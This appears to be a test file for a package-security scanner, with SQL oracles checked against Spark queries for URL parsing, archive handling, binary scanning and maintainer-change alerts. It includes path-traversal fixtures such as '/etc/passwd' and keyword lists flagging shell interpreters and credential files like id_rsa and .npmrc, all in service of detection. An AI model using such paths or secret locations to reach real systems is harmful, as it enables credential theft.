_URL = fx.pick(_REPOS + ["http://github.com/a/b#x", "a/b/c", "plain", "github.com/Own/Re.po.git/"], "p_partkey")
_EXPECT = fx.pick(["own/src-repo", "own/other", "", "own/ssh", "own/bare", "", "own/tree", "", "", "", "Own/Re.po"], "p_partkey")


@query("repository_urls", f"SELECT p_partkey, nullif({_EXPECT}, '') AS repo FROM part")
def _repos(spark, sf):
    return read(spark, sf, "part").select("p_partkey", names.repository(F.expr(_URL)).alias("r")).select("p_partkey", F.concat("r.owner", F.lit("/"), "r.repo").alias("repo"))


_DATED = "case p_partkey % 5 when 0 then '2026-01-20T10:00:00Z' when 1 then '2026-01-27T23:59:59Z' when 2 then 'unknown' when 3 then '2020-05-05T00:00:00.000Z' else '2026-03-01T00:00:00Z' end"


@query(
    "dates",
    f"""SELECT p_partkey, trunc(epoch(TIMESTAMP '2026-02-01 00:00:00' - try_cast(left(ts, 19) AS TIMESTAMP)) / 86400)::BIGINT AS age, y * 365 + y // 4 - y // 100 + y // 400 + m * 30 + d AS rough FROM
    (SELECT p_partkey, ts, try_cast(substr(ts, 1, 4) AS BIGINT) AS y, try_cast(substr(ts, 6, 2) AS BIGINT) AS m, try_cast(substr(ts, 9, 2) AS BIGINT) AS d FROM (SELECT p_partkey, {_DATED} AS ts FROM part))""",
)
def _dates(spark, sf):
    ts = F.expr(_DATED)
    return read(spark, sf, "part").select("p_partkey", names.age_days(ts, F.lit("2026-02-01 00:00:00").cast("timestamp")).alias("age"), names.rough_day(ts).alias("rough"))


@query("cvss", f"SELECT p_partkey, {_SEVERITY_SQL} AS severity FROM (SELECT p_partkey, {_SCORE} AS s, {_TYPE} AS t, try_cast({_SCORE} AS DOUBLE) AS n FROM part)")
def _cvss(spark, sf):
    return read(spark, sf, "part").select("p_partkey", names.cvss_severity(F.array(F.struct(F.expr(_TYPE).alias("kind"), F.expr(_SCORE).alias("score")))).alias("severity"))


@query(
    "name_scalars",
    f"""SELECT p_partkey, replace(n, '/', '__') || '@1.0.0.json' AS cache_key, replace(n, '/', '%2F') AS encoded, lower(coalesce(CASE WHEN p_partkey % 2 = 0 THEN n END, CASE WHEN p_partkey % 3 = 0 THEN 'X@Y.example' END, 'unknown')) AS key, CASE WHEN contains(n, '@') THEN regexp_extract(n, '[^@]*$') END AS domain,
    round(CASE WHEN greatest(length(n), length(p_name)) = 0 THEN 0 ELSE levenshtein(n, p_name) / greatest(length(n), length(p_name)) END, 9) AS distance FROM (SELECT p_partkey, p_name, {_PKG} AS n FROM part)""",
)
def _name_scalars(spark, sf):
    p, n = _parts(spark, sf), F.col("package")
    key = names.maintainer_key(F.when(F.col("p_partkey") % 2 == 0, n), F.when(F.col("p_partkey") % 3 == 0, "X@Y.example"))
    return p.select("p_partkey", names.cache_key(n, F.lit("1.0.0")).alias("cache_key"), names.encode_name(n).alias("encoded"), key.alias("key"), names.email_domain(n).alias("domain"), F.round(names.normalized_levenshtein(n, F.col("p_name")), 9).alias("distance"))


@query("truncation", f"SELECT doc_id, {fx.cut_sql('t', 40)} AS a, CASE WHEN octet_length(encode(t)) <= 40 THEN t ELSE left(t, 40) || '...' END AS b FROM (SELECT doc_id, coalesce(text, '') AS t FROM documents)")
def _truncation(spark, sf):
    t = F.coalesce("text", F.lit(""))
    return read(spark, sf, "documents").select("doc_id", text.truncate(t, 40).alias("a"), text.truncate_bytes(t, 40).alias("b"))


# --- sources -------------------------------------------------------------------------------------


@query(
    "project_dependencies",
    "SELECT cast(o_orderkey as string) AS project, unnest(['a', concat('p', cast(o_custkey as string)), 'a']) AS name, unnest(['1.0.0', 'latest', '2.0.0']) AS spec, unnest(['prod', 'prod', 'dev']) AS kind FROM orders",
)
def _project(spark, sf):
    o = read(spark, sf, "orders").select(F.expr("cast(o_orderkey as string)").alias("project"), F.expr("concat('{\"dependencies\": {\"a\": \"1.0.0\", \"p', cast(o_custkey as string), '\": null}, \"devDependencies\": {\"a\": \"2.0.0\"}}')").alias("package_json"))
    return sources.by_name(sources.project_dependencies(sources.manifests(o)))


_ENTRY = fx.pick(["package/index.js", "package/../../evil.txt", "package/lib/a.ts", "package/node_modules/x/i.js", "other/readme.md", "package/a.wasm", "/etc/passwd", "package/B.DLL"], "doc_id")


@query(
    "archive_paths",
    f"SELECT source AS package, path FROM (SELECT source, {_ENTRY} AS e, substr({_ENTRY}, 9) AS path FROM documents) WHERE starts_with(e, 'package/') AND NOT contains(e, '..')",
)
def _archive_paths(spark, sf):
    e = read(spark, sf, "documents").select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(_ENTRY).alias("path"))
    return sources.rooted(sources.safe(e)).select("package", "path")


@query("archive_listing", f"SELECT source AS package, count(*) FILTER (e IN ('package/index.js', 'package/lib/a.ts')) AS scripts, count(*) FILTER (e IN ('package/a.wasm', 'package/B.DLL')) AS binaries FROM (SELECT source, {_ENTRY} AS e FROM documents) GROUP BY source")
def _listing(spark, sf):
    e = read(spark, sf, "documents").select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(_ENTRY).alias("path"), F.expr("cast(coalesce(text, '') as binary)").alias("data"))
    kinds = sources.script_files(e).select("package", F.lit("s").alias("k")).unionByName(sources.binary_files(e).select("package", F.lit("b").alias("k")))
    counted = kinds.groupBy("package").agg(F.count_if(F.col("k") == "s").alias("scripts"), F.count_if(F.col("k") == "b").alias("binaries"))
    return e.select("package").distinct().join(counted, "package", "left").fillna(0)


@query(
    "registry_documents",
    "SELECT concat('c', cast(o_custkey as string)) AS package, cast(o_orderkey as string) AS version, o_orderkey = max(o_orderkey) OVER (PARTITION BY o_custkey) AS latest, count(*) OVER (PARTITION BY o_custkey) AS n_versions FROM orders",
)
def _registry(spark, sf):
    item = F.expr("concat('\"', cast(o_orderkey as string), '\": {\"version\": \"', cast(o_orderkey as string), '\"}')")
    docs = read(spark, sf, "orders").groupBy("o_custkey").agg(F.array_join(F.collect_list(item), ", ").alias("v"), F.max("o_orderkey").alias("m"))
    text_ = docs.select(F.expr("concat('{\"name\": \"c', cast(o_custkey as string), '\", \"versions\": {', v, '}, \"dist-tags\": {\"latest\": \"', cast(m as string), '\"}, \"other\": [1]}')").alias("json"))
    return sources.versions(sources.parsed(text_)).select("package", "version", "latest", F.col("n_versions").cast("long").alias("n_versions"))


@query("binary_strings", r"SELECT doc_id, len(regexp_extract_all(coalesce(text, ''), '[ -~]{4,}')) AS n_strings FROM documents")
def _binary_strings(spark, sf):
    d = read(spark, sf, "documents").select(F.col("source").alias("package"), F.lit("1").alias("version"), F.expr("cast(doc_id as string)").alias("path"), F.expr("cast(coalesce(text, '') as binary)").alias("data"), "doc_id")
    counted = binary.strings(d).groupBy("path").agg(F.count("*").alias("n"))
    return d.select("doc_id", "path").join(counted, "path", "left").select("doc_id", F.coalesce("n", F.lit(0)).cast("long").alias("n_strings"))


_HOLDS = lambda words: " OR ".join(f"contains(s, {q(w)})" for w in words)


# No prose comes near 7.5 bits a byte, so no entropy is told here; a test of the operator does.
@query(
    "binary_scan",
    f"""WITH {fx.FILES_SQL}, b AS (SELECT package, version, path || '.node' AS path, content FROM files), t AS (SELECT package, version, path, unnest(regexp_extract_all(content, '[ -~]{{4,}}')) AS s FROM b),
    c AS (SELECT *, CASE WHEN octet_length(encode(s)) <= 100 THEN s ELSE left(s, 100) || '...' END AS snippet FROM t)
    SELECT package, version, 'High' AS severity, 'BinaryFile' AS category, 'Native binary file: ' || path AS title, path AS file, NULL::INT AS line, NULL::VARCHAR AS snippet FROM b
    UNION ALL SELECT package, version, 'Critical', 'BinaryFile', 'Shell command in binary: ' || path, path, NULL, snippet FROM c WHERE {_HOLDS(["/bin/sh", "/bin/bash", "/bin/zsh", "cmd.exe", "powershell", "command.com"])}
    UNION ALL SELECT package, version, 'Critical', 'BinaryFile', 'Credential string in binary: ' || path, path, NULL, snippet FROM c WHERE {_HOLDS(["AWS_SECRET", "AWS_ACCESS_KEY", "NPM_TOKEN", "npm_token", "password", "passwd", ".npmrc", ".ssh/", "id_rsa", "id_ed25519", "GITHUB_TOKEN", "GH_TOKEN", "PRIVATE_KEY"])}
    UNION ALL SELECT package, version, 'Critical', 'BinaryFile', 'URL embedded in binary: ' || path, path, NULL, snippet FROM c WHERE {_HOLDS(["http://", "https://", "ftp://", "ws://", "wss://"])}""",
)
def _binary_scan(spark, sf):
    f = fx.files(spark, sf).select("package", "version", F.concat("path", F.lit(".node")).alias("path"), F.expr("cast(content as binary)").alias("data"))
    return shown(binary.scan(f))


# --- feed ----------------------------------------------------------------------------------------


@query("feed_counts", "SELECT date_trunc('hour', ts) AS hour, event_type AS package, count(*) AS n FROM events GROUP BY ALL")
def _feed(spark, sf):
    e = read(spark, sf, "events").select(F.col("event_type").alias("package"), F.col("ts").alias("published_at"))
    return feed.counts(e).select(F.col("window.start").alias("hour"), "package", "n")


# Documents as versions of packages, sixteen to a source, published in an order that isn't theirs.
_PUBLISHED = {
    "package": "source || '/' || cast(doc_id % 16 as string)",
    "version": "cast(doc_id as string)",
    "ts": "'2026-01-' || lpad(cast(1 + (doc_id * 7919) % 28 as string), 2, '0')",
    "name": "'m' || cast((doc_id * 31 // 97) % 3 as string)",
    "host": "case when doc_id * 13 % 5 = 0 then null when (doc_id // 7) % 2 = 0 then 'one.example' else 'Two.example' end",
}
_FEED_SQL = f"""vers AS (SELECT {", ".join(f"{v} AS {k}" for k, v in _PUBLISHED.items())}, (doc_id // 11) % 3 = 0 AS pair FROM documents WHERE source IS NOT NULL),
ranked AS (SELECT *, row_number() OVER (PARTITION BY package ORDER BY ts DESC, version DESC) AS k FROM vers),
two AS (SELECT a.*, b.version AS old, b.name AS old_name, b.host AS old_host, b.pair AS old_pair FROM ranked a LEFT JOIN ranked b ON b.package = a.package AND b.k = 2 WHERE a.k = 1)"""


def _last_published(spark, sf):
    d = fx.streamed(spark, sf, "documents").select(*(F.expr(fx.spark_sql(v)).alias(k) for k, v in _PUBLISHED.items()), F.expr("(doc_id div 11) % 3 = 0").alias("pair"))
    people = "if(pair, array(named_struct('name', name, 'email', name || '@' || host), named_struct('name', 'zed', 'email', 'z@zed.example')), array(named_struct('name', name, 'email', name || '@' || host)))"
    published = d.select("package", "version", F.col("ts").alias("publish_ts"), F.expr(people).alias("maintainers"))
    return history.current(history.collected(history.last_two(published), "feed-versions"))


@query("feed_versions", f"WITH {_FEED_SQL} SELECT package, version AS latest, old AS previous, ts AS latest_ts FROM two")
def _feed_versions(spark, sf):
    return _last_published(spark, sf).select("package", F.col("last.version").alias("latest"), F.col("prev.version").alias("previous"), F.col("last.publish_ts").alias("latest_ts"))


@query(
    "feed_maintainers",
    f"""WITH {_FEED_SQL}, k AS (SELECT *, CASE WHEN pair THEN [name, 'zed'] ELSE [name] END AS b, CASE WHEN old_pair THEN [old_name, 'zed'] ELSE [old_name] END AS a FROM two WHERE old IS NOT NULL)
    SELECT package, version, 'Critical' AS severity, 'Complete ownership transfer' AS title FROM k WHERE NOT list_has_any(a, b)
    UNION ALL SELECT package, version, unnest(['High', 'Medium']), unnest(['New maintainer added recently', 'New maintainer added']) FROM k WHERE NOT list_has_all(a, b)
    UNION ALL SELECT package, version, 'Medium', 'Maintainer email domain changed' FROM k WHERE name = old_name AND lower(host) <> lower(old_host)""",
)
def _feed_maintainers(spark, sf):
    return metadata.maintainer_changes(history.pairs(_last_published(spark, sf))).select("package", "version", "severity", "title")


@query("feed_scores", ORACLES["risk_scores"])
def _feed_scores(spark, sf):
    """Scores that a stream of files has added up; every document is a package, as in risk_scores."""
    docs = fx.streamed(spark, sf, "documents")
    published = fx.files_of(docs).withColumns({"package": F.expr(_DOC), "published_at": F.lit("2026-01-01").cast("timestamp")})
    base = storage.fresh(spark, "feed-scores")
    counted = history.score_sink(f"{base}/counts")
    feed.line_findings(published).writeStream.foreachBatch(counted).option("checkpointLocation", f"{base}/log").trigger(availableNow=True).start().awaitTermination()
    counts = spark.read.schema("package string, version string, severity string, n bigint, batch int").parquet(f"{base}/counts")
    return history.scores(fx.files(spark, sf).withColumn("package", F.expr(_DOC)), counts).drop("n_info")


# --- archives ------------------------------------------------------------------------------------


@query("archive_source", "SELECT concat('lib/f', doc_id, '.js') AS path, octet_length(encode(coalesce(text, ''))) AS n_bytes, md5(coalesce(text, '')) AS digest FROM documents")
def _archive_source(spark, sf):
    """Documents packed into archives of eight MiB, which the data source reads in parts of 64 KiB."""
    folder = storage.fresh(spark, "archives")
    docs = read(spark, sf, "documents").select(F.expr("concat('package/lib/f', cast(doc_id as string), '.js')").alias("path"), F.expr("cast(coalesce(text, '') as binary)").alias("data"))
    archives.pack(docs, folder)
    files = sources.rooted(archives.whole(archives.read(spark, folder, partBytes=str(64 << 10))))
    return files.select("path", F.octet_length("data").cast("long").alias("n_bytes"), F.md5("data").alias("digest"))


@query("file_contents", f"SELECT source AS package, {_ENTRY} AS path, CASE WHEN doc_id % 7 = 0 THEN 0 ELSE length(coalesce(text, '')) END AS n_chars FROM documents")
def _file_contents(spark, sf):
    """Contents of all files; every seventh isn't UTF-8, and so empty."""
    data = F.expr("if(doc_id % 7 = 0, concat(X'FF', cast(coalesce(text, '') as binary)), cast(coalesce(text, '') as binary))")
    e = read(spark, sf, "documents").select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(_ENTRY).alias("path"), data.alias("data"))
    return sources.all_files(e).select("package", "path", F.length("content").cast("long").alias("n_chars"))


@query(
    "requested_versions",
    """WITH wanted AS (SELECT o_custkey, CASE WHEN o_custkey % 3 = 0 THEN NULL WHEN o_custkey % 3 = 1 THEN max(o_orderkey) ELSE -1 END AS v, max(o_orderkey) AS top, count(*) AS n FROM orders GROUP BY o_custkey)
    SELECT 'c' || o_custkey AS package, cast(top AS string) AS version, CASE WHEN v IS NULL THEN n ELSE 1 END AS n_versions, v IS NULL AS has_times FROM wanted WHERE v IS NULL OR v >= 0""",
)
def _requested_versions(spark, sf):
    """Packages asked for whole, by a version that they have, or by one that they lack."""
    item = F.expr("concat('\"', cast(o_orderkey as string), '\": {\"version\": \"', cast(o_orderkey as string), '\"}')")
    docs = read(spark, sf, "orders").groupBy("o_custkey").agg(F.array_join(F.collect_list(item), ", ").alias("v"), F.max("o_orderkey").alias("m"))
    json = "concat('{\"name\": \"c', cast(o_custkey as string), '\", \"versions\": {', v, '}, \"time\": {\"created\": \"t\"}, \"dist-tags\": {\"latest\": \"', cast(m as string), '\"}}')"
    spec = "'c' || cast(o_custkey as string) || case o_custkey % 3 when 0 then '' when 1 then '@' || cast(m as string) else '@none' end"
    rows = docs.select(F.expr(json).alias("json"), F.expr(spec).alias("spec"))
    asked = sources.as_single_version(sources.parsed(rows), sources.requested(rows))
    return sources.latest(asked).select("package", "version", F.col("n_versions").cast("long").alias("n_versions"), F.col("created_ts").isNotNull().alias("has_times"))


@query("ignore_lines", "SELECT source AS rule, count(*) AS n FROM documents WHERE source IS NOT NULL AND doc_id % 3 > 0 GROUP BY source")
def _ignore_lines(spark, sf):
    """Ignore files with a line for each document: a rule, a comment, or a blank line."""
    path = storage.fresh(spark, "ignore")
    line = F.expr("case doc_id % 6 when 0 then '# ' || source when 3 then '  ' else ' ' || source || ' ' end")
    read(spark, sf, "documents").where("source is not null").select(line.alias("value")).write.text(path)
    return sources.ignore_rules(spark, [path]).groupBy("rule").agg(F.count("*").alias("n"))
